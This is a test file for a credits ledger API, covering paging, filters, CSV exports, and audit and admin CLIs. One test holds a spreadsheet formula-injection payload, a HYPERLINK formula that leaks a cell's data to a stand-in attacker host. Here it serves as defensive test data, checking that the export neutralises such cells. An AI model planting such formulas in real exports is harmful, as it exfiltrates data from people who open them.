/**
 * The ledger (docs/api/credits.md): stable cursor paging under concurrent writes, every filter, limits,
 * cursors bound to filters; CSV exports; the audit CLI reconstructing balances from the events
 * (equal to the read model); the credits commands of the admin CLI.
 */
import { expect } from 'chai';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { reserveForDocument, settleDocumentReservation } from '../../commands/credits/metering.js';
import { CSV_COLUMNS, csvLine } from '../../http/credits/csv.js';
import { parseCsv } from '../support/csv.js';
import { allowanceJson } from '../../http/credits/present.js';
import { ManualClock } from '../../platform/clock.js';
import { testDb } from '../support/db.js';
import { startTestService, type TestService } from '../support/http.js';
import { DAY, HOUR, allowanceBody, connectError, createCurrent, creditsClient, creditsTenant, engineOf, iso, issue } from './support.js';

function cli(script: 'admin' | 'audit', args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ['--import', 'tsx', `scripts/${script}.ts`, ...args],
      { env: { ...process.env, DATABASE_URL: testDb().url, EVENTSTORE_URL: '', LOG_LEVEL: 'silent' }, timeout: 60000 },
      (err, stdout, stderr) => resolve({ code: err ? (typeof err.code === 'number' ? err.code : -1) : 0, stdout, stderr }),
    );
  });
}

async function pageAll(c: ReturnType<typeof creditsClient>, query: string, limit: number) {
  const items: any[] = [];
  let cursor: string | null = null;
  for (let guard = 0; guard < 1000; guard++) {
    const r: any = await c.get(`/transactions?limit=${limit}${query ? `&${query}` : ''}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    expect(r.status, r.text).to.equal(200);
    items.push(...r.json.data.items);
    cursor = r.json.data.nextCursor;
    if (!cursor) break;
  }
  return items;
}

describe('credits: ledger, exports, audit', function () {
  this.timeout(120000);
  let t: TestService;
  const clock = new ManualClock('2026-06-01T12:00:00Z');
  before(async () => {
    t = await startTestService({ clock, startWorkers: false });
  });
  after(async () => t.close());
  const reserve = (c: { workspaceId: string; companyId: string }) =>
    reserveForDocument(engineOf(t), { workspaceId: c.workspaceId, companyId: c.companyId, documentId: randomUUID() }, { now: clock.now(), actor: 'test' });

  it('pages newest first without a gap or a duplicate while transactions are written concurrently', async () => {
    const c = await creditsTenant(t);
    await issue(t, c.workspaceId, 10_000);
    await createCurrent(c, clock.now(), { limit: 10_000 });
    let last = null;
    for (let i = 0; i < 60; i++) last = (await reserve(c)).result.position;
    await t.settle(last!);

    let writing = true;
    const writer = (async () => {
      let n = 0;
      while (writing && n < 150) {
        await Promise.all([reserve(c), reserve(c)]);
        n += 2;
      }
    })();
    const paged = await pageAll(c, '', 7);
    writing = false;
    await writer;
    await t.settleAll();
    const full = await pageAll(c, '', 100);

    const ids = paged.map((x) => x.transactionId);
    expect(new Set(ids).size).to.equal(ids.length);
    expect(ids.length).to.be.at.least(62);
    // What the pages gave is exactly the older end of the full ledger, in the same order: no gap.
    const fullIds = full.map((x) => x.transactionId);
    const start = fullIds.indexOf(ids[0]!);
    expect(start).to.be.at.least(0);
    expect(fullIds.slice(start)).to.deep.equal(ids);
    expect(full.length).to.be.greaterThan(paged.length);
  });

  it('filters by every field of docs/api/credits.md, refuses bad limits and unknown parameters, and a cursor reused with other filters', async () => {
    const c = await creditsTenant(t);
    const other = await creditsTenant(t);
    await issue(t, c.workspaceId, 100);
    const correlationId = `corr-${randomUUID()}`;
    const requestId = `req-${randomUUID()}`;
    const key = `idem-${randomUUID()}`;
    const created = await c.write('PUT', `/allowances/${c.companyId}/current`, allowanceBody(clock.now()), {
      'if-none-match': '*',
      'x-correlation-id': correlationId,
      'x-request-id': requestId,
      'idempotency-key': key,
    });
    expect(created.status).to.equal(201);
    const second = await c.client.onboard();
    const c2 = { ...c, companyId: second.companyId as string };
    await createCurrent(c2, clock.now(), { limit: 3 });
    const t0 = clock.now().getTime();
    clock.set(iso(t0 + HOUR));
    const r1 = await reserve(c);
    clock.set(iso(t0 + 2 * HOUR));
    await reserve(c2);
    await t.settle((await reserve(c2)).result.position!);
    const bulk = await c.write('POST', '/allowances/bulk', { operations: [{ operationId: 'p', companyId: c2.companyId, operation: 'pause', expectedVersion: 1, reason: 'bulk pause' }] });
    expect(bulk.status).to.equal(202);
    const jobId = bulk.json.data.jobId;
    const deadline = Date.now() + 10_000;
    while ((await c.get(`/allowances/bulk/${jobId}`)).json.data.status !== 'completed' && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
    await t.settleAll();

    const q = async (query: string) => (await c.get(`/transactions?${query}`)).json.data.items as any[];
    const all = await q('limit=100');
    expect(all.map((x) => x.eventType)).to.deep.equal(['allowance.paused', 'reservation.created', 'reservation.created', 'reservation.created', 'allowance.created', 'allowance.created', 'credit.issued']);
    expect((await q(`companyId=${c.companyId}`)).map((x) => x.eventType)).to.deep.equal(['reservation.created', 'allowance.created']);
    expect((await q('eventType=reservation.created')).every((x) => x.eventType === 'reservation.created')).to.equal(true);
    expect(await q(`correlationId=${correlationId}`)).to.have.length(1);
    expect((await q(`requestId=${requestId}`))[0]).to.include({ eventType: 'allowance.created', requestId, correlationId, idempotencyKey: key });
    expect(await q(`idempotencyKey=${key}`)).to.have.length(1);
    const paused = (await q(`bulkJobId=${jobId}`))[0];
    expect(paused).to.include({ eventType: 'allowance.paused', bulkJobId: jobId, companyId: c2.companyId, reason: 'bulk pause' });
    expect(await q(`transactionId=${paused.transactionId}`)).to.have.length(1);
    expect((await q(`occurredFrom=${iso(t0 + HOUR)}&occurredTo=${iso(t0 + 2 * HOUR)}`)).map((x) => x.reservationId)).to.deep.equal([r1.reservationId]);
    expect(await q(`occurredFrom=${iso(t0 + 3 * HOUR)}`)).to.have.length(0);
    // Another workspace's ledger is not visible.
    expect(await q(`companyId=${other.companyId}`)).to.deep.equal([]);
    expect((await other.get('/transactions')).json.data.items).to.deep.equal([]);
    expect((await other.get(`/transactions?transactionId=${paused.transactionId}`)).json.data.items).to.deep.equal([]);

    for (const [query, path] of [
      ['limit=0', ['query', 'limit']],
      ['limit=101', ['query', 'limit']],
      ['eventType=allowance.changed', ['query', 'eventType']],
      ['occurredFrom=2026-01-01', ['query', 'occurredFrom']],
      [`occurredFrom=${iso(t0)}&occurredTo=${iso(t0)}`, ['query', 'occurredTo']],
      ['transactionId=abc', ['query', 'transactionId']],
      ['companyId=ABC', ['query', 'companyId']],
      ['page=2', ['query', 'page']],
      ['cursor=%%%', ['query', 'cursor']],
    ] as const) {
      const r = await c.get(`/transactions?${query}`);
      expect(r.status, query).to.equal(400);
      expect(connectError(r), query).to.deep.include({ code: 'CONNECT_VALIDATION_ERROR', path });
    }
    const page = await c.get('/transactions?limit=2&eventType=reservation.created');
    const cursor = encodeURIComponent(page.json.data.nextCursor);
    expect((await c.get(`/transactions?limit=2&eventType=reservation.created&cursor=${cursor}`)).status).to.equal(200);
    const reused = await c.get(`/transactions?limit=2&eventType=allowance.created&cursor=${cursor}`);
    expect(reused.status).to.equal(400);
    expect(connectError(reused).path).to.deep.equal(['query', 'cursor']);
    // A limit change is not a filter change.
    expect((await c.get(`/transactions?limit=5&eventType=reservation.created&cursor=${cursor}`)).status).to.equal(200);
  });

  it('exports the ledger as CSV: 202 with an Idempotency-Key, status until completed, an authenticated download, then expiry', async () => {
    const c = await creditsTenant(t);
    await issue(t, c.workspaceId, 100);
    await createCurrent(c, clock.now(), { limit: 10, reason: 'annual plan, "gold", tier\nB' });
    await reserve(c);
    const settled = await reserve(c);
    await t.settle(settled.result.position!);

    const noKey = await c.write('POST', '/exports', { format: 'csv' }, { 'idempotency-key': undefined });
    expect(noKey.status).to.equal(400);
    expect((await c.write('POST', '/exports', { format: 'pdf' })).status).to.equal(400);
    const badFilter = await c.write('POST', '/exports', { format: 'csv', filters: { eventType: 'nope' } });
    expect(connectError(badFilter).path).to.deep.equal(['filters', 'eventType']);
    expect((await c.write('POST', '/exports', { format: 'csv', filters: { cursor: 'x' } })).status).to.equal(400);

    // A read-only member may export (an export is a read).
    const reader = await t.key(c.workspaceId, { permission: 'read', role: 'member' });
    const rc = creditsClient(t, { workspaceId: c.workspaceId, apiKey: reader.apiKey, keyId: reader.keyId });
    const key = randomUUID();
    const requested = await rc.write('POST', '/exports', { format: 'csv', filters: { companyId: c.companyId } }, { 'idempotency-key': key });
    expect(requested.status, requested.text).to.equal(202);
    const exportId = requested.json.data.exportId;
    expect(exportId).to.match(/^cex_[0-9a-f]{24}$/);
    expect(requested.json.data).to.include({ status: 'accepted', replayed: false });
    const replay = await rc.write('POST', '/exports', { format: 'csv', filters: { companyId: c.companyId } }, { 'idempotency-key': key });
    expect(replay.status).to.equal(202);
    expect(replay.json.data).to.include({ exportId, replayed: true });
    // Written after the request: not in this export.
    await t.settle((await reserve(c)).result.position!);

    const deadline = Date.now() + 15_000;
    let status: any;
    for (;;) {
      status = (await rc.get(`/exports/${exportId}`)).json.data;
      if (status.status !== 'accepted' || Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 25));
    }
    expect(status).to.include({ exportId, status: 'completed', format: 'csv', rowCount: 3, downloadUrl: `/v3/connect/credits/exports/${exportId}/download` });
    expect(status.filters.companyId).to.equal(c.companyId);
    const download = await rc.raw('GET', `/exports/${exportId}/download`);
    expect(download.status).to.equal(200);
    expect(download.headers.get('content-type')).to.contain('text/csv');
    const rows = parseCsv(download.text);
    expect(rows[0]).to.deep.equal([...CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => r[1])).to.deep.equal(['allowance.created', 'reservation.created', 'reservation.created']);
    expect(rows[1]![CSV_COLUMNS.indexOf('reason')]).to.equal('annual plan, "gold", tier\nB');
    const ledger = (await c.get(`/transactions?companyId=${c.companyId}&limit=100`)).json.data.items.reverse();
    expect(rows.slice(1).map((r) => r[0])).to.deep.equal(ledger.slice(0, 3).map((x: any) => x.transactionId));
    expect(rows[2]![CSV_COLUMNS.indexOf('balanceAfter.companyReserved')]).to.equal('1');

    const unauthenticated = await fetch(`${t.url}/v3/connect/credits/exports/${exportId}/download`);
    expect(unauthenticated.status).to.equal(401);
    const stranger = await creditsTenant(t);
    const notFound = await stranger.get(`/exports/${exportId}`);
    expect(notFound.status).to.equal(404);
    expect(connectError(notFound).code).to.equal('CONNECT_CREDIT_EXPORT_NOT_FOUND');
    expect((await stranger.get(`/exports/${exportId}/download`)).status).to.equal(404);

    clock.set(iso(clock.now().getTime() + DAY + 1));
    const expired = (await rc.get(`/exports/${exportId}`)).json.data;
    expect(expired).to.include({ status: 'expired', downloadUrl: null });
    const gone = await rc.raw('GET', `/exports/${exportId}/download`);
    expect(gone.status).to.equal(410);
    expect(connectError(gone).code).to.equal('CONNECT_CREDIT_EXPORT_EXPIRED');
  });

  it('neutralises spreadsheet formulas in exported cells (OWASP): the parsed CSV holds the value prefixed with a quote', async () => {
    const c = await creditsTenant(t);
    await issue(t, c.workspaceId, 100);
    const reason = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
    await createCurrent(c, clock.now(), { limit: 10, reason });
    const noKey = await c.write('POST', '/exports', { format: 'csv' }, { 'idempotency-key': undefined });
    expect(noKey.status).to.equal(400);
    expect(connectError(noKey).path).to.deep.equal(['headers', 'Idempotency-Key']);
    expect(connectError(noKey).message).to.match(/Idempotency-Key header is required on credit writes.*retried write never moves credits twice/);
    const requested = await c.write('POST', '/exports', { format: 'csv', filters: { companyId: c.companyId } });
    expect(requested.status, requested.text).to.equal(202);
    const exportId = requested.json.data.exportId;
    const deadline = Date.now() + 15_000;
    while ((await c.get(`/exports/${exportId}`)).json.data.status === 'accepted' && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
    const download = await c.raw('GET', `/exports/${exportId}/download`);
    expect(download.status).to.equal(200);
    const rows = parseCsv(download.text);
    expect(rows[1]![CSV_COLUMNS.indexOf('reason')]).to.equal(`'${reason}`);

    // Every dangerous first character, as the CSV parser reads the cell back; numbers stay numbers.
    for (const value of ['=1+1', '+1', '-1', '@SUM(A1)', '\tcmd', '\rcmd', '\uff1d1']) {
      const [parsed] = parseCsv(csvLine([value, -5, 'plain']));
      expect(parsed).to.deep.equal([`'${value}`, '-5', 'plain']);
    }
  });

  it('the audit CLI reconstructs a company\'s balance as of any instant from the events alone, equal to the read model', async () => {
    const c = await creditsTenant(t);
    await issue(t, c.workspaceId, 50);
    await createCurrent(c, clock.now(), { limit: 20 });
    const docs: string[] = [];
    for (let i = 0; i < 5; i++) {
      const documentId = randomUUID();
      docs.push(documentId);
      await reserveForDocument(engineOf(t), { workspaceId: c.workspaceId, companyId: c.companyId, documentId }, { now: clock.now() });
    }
    await settleDocumentReservation(engineOf(t), c.workspaceId, docs[0]!, 'finalize', null, { now: clock.now() });
    const mid = await settleDocumentReservation(engineOf(t), c.workspaceId, docs[1]!, 'release', null, { now: clock.now() });
    await t.settle(mid.position!);
    const asOf1 = clock.now().toISOString();
    const read1 = (await c.get(`/allowances/${c.companyId}`)).json.data;

    clock.set(iso(clock.now().getTime() + HOUR));
    await settleDocumentReservation(engineOf(t), c.workspaceId, docs[2]!, 'finalize', null, { now: clock.now() });
    const replaced = await c.write('PUT', `/allowances/${c.companyId}/current`, allowanceBody(clock.now(), { limit: 30 }), { 'if-match': '"1"' });
    expect(replaced.status).to.equal(200);
    await t.settleAll();
    const asOf2 = clock.now().toISOString();
    const read2 = (await c.get(`/allowances/${c.companyId}`)).json.data;
    const pool2 = (await c.get('/pool')).json.data;

    const pick = (state: any) => {
      const { asOf: _a, recentActivity: _r, scheduledEtag: _s, ...rest } = state;
      return rest;
    };
    for (const [asOf, read] of [
      [asOf1, read1],
      [asOf2, read2],
    ] as const) {
      const r = await cli('audit', ['credits', '--workspace', c.workspaceId, '--company', c.companyId, '--as-of', asOf]);
      expect(r.stderr).to.equal('');
      expect(r.code).to.equal(0);
      const audit = JSON.parse(r.stdout);
      expect(audit.inconsistencies).to.deep.equal([]);
      const company = { ...audit.company, current: allowanceJson(audit.company.current), scheduled: allowanceJson(audit.company.scheduled), asOf: null };
      expect(pick(company)).to.deep.equal(pick(read));
    }
    const final = JSON.parse((await cli('audit', ['credits', '--workspace', c.workspaceId, '--company', c.companyId, '--as-of', asOf2])).stdout);
    expect(final.pool).to.include({ active: pool2.active, reserved: pool2.reserved, consumed: pool2.consumed, expired: pool2.expired, available: pool2.available, issued: pool2.issued });
    expect(final.companyTransactions).to.equal((await c.get(`/transactions?companyId=${c.companyId}&limit=100`)).json.data.items.length);
    const before = JSON.parse((await cli('audit', ['credits', '--workspace', c.workspaceId, '--company', c.companyId, '--as-of', '2020-01-01T00:00:00Z'])).stdout);
    expect(before).to.include({ events: 0 });
    expect(before.company).to.include({ current: null, blockReason: 'NO_ACTIVE_ALLOWANCE' });
    const missing = await cli('audit', ['credits', '--workspace', 'ws_nothing', '--company', c.companyId]);
    expect(missing.code).to.equal(1);
    expect(missing.stderr).to.contain('no credit events');
  });

  it('the admin CLI issues credits, turns enforcement on and off, prints the pool, and refuses bad arguments', async () => {
    const c = await creditsTenant(t);
    const issued = await cli('admin', ['credits', 'issue', '--workspace', c.workspaceId, '--environment', 'production', '--amount', '250', '--expires-at', '2099-01-01T00:00:00Z']);
    expect(issued.stderr).to.equal('');
    expect(issued.code).to.equal(0);
    const out = JSON.parse(issued.stdout);
    expect(out).to.deep.include({ workspaceId: c.workspaceId, amount: 250, environment: 'production', expiresAt: '2099-01-01T00:00:00.000Z' });
    expect(out.pool).to.include({ active: 250, available: 250 });
    const pool = (await c.get('/pool')).json.data;
    expect(pool).to.include({ active: 250, available: 250 });
    expect(pool.lots[0]).to.include({ lotId: out.lotId, environment: 'production' });
    const tx = (await c.get('/transactions?eventType=credit.issued')).json.data.items[0];
    expect(tx).to.include({ amount: 250, environment: 'production', lotId: out.lotId });

    const on = JSON.parse((await cli('admin', ['credits', 'enforcement', '--workspace', c.workspaceId, '--on'])).stdout);
    expect(on).to.deep.equal({ workspaceId: c.workspaceId, enforcement: true, changed: true });
    const again = JSON.parse((await cli('admin', ['credits', 'enforcement', '--workspace', c.workspaceId, '--on'])).stdout);
    expect(again.changed).to.equal(false);
    const off = JSON.parse((await cli('admin', ['credits', 'enforcement', '--workspace', c.workspaceId, '--off'])).stdout);
    expect(off.enforcement).to.equal(false);
    const printed = JSON.parse((await cli('admin', ['credits', 'pool', '--workspace', c.workspaceId])).stdout);
    expect(printed).to.include({ workspaceId: c.workspaceId, active: 250, enforcement: false });

    for (const args of [
      ['credits', 'issue', '--workspace', c.workspaceId, '--environment', 'staging', '--amount', '5'],
      ['credits', 'issue', '--workspace', c.workspaceId, '--environment', 'sandbox', '--amount', '-5'],
      ['credits', 'issue', '--workspace', c.workspaceId, '--environment', 'sandbox', '--amount', '5', '--expires-at', 'tomorrow'],
      ['credits', 'enforcement', '--workspace', c.workspaceId],
      ['credits', 'issue', '--workspace', 'ws_nope', '--environment', 'sandbox', '--amount', '5'],
      ['credits', 'issue', '--workspace', c.workspaceId, '--environment', 'sandbox', '--amount', '5', '--expires-at', '2000-01-01T00:00:00Z'],
    ]) {
      const r = await cli('admin', args);
      expect(r.code, args.join(' ')).to.equal(2);
      expect(r.stdout).to.equal('');
      expect(r.stderr.trim().split('\n').length, r.stderr).to.be.at.most(2);
    }
  });
});
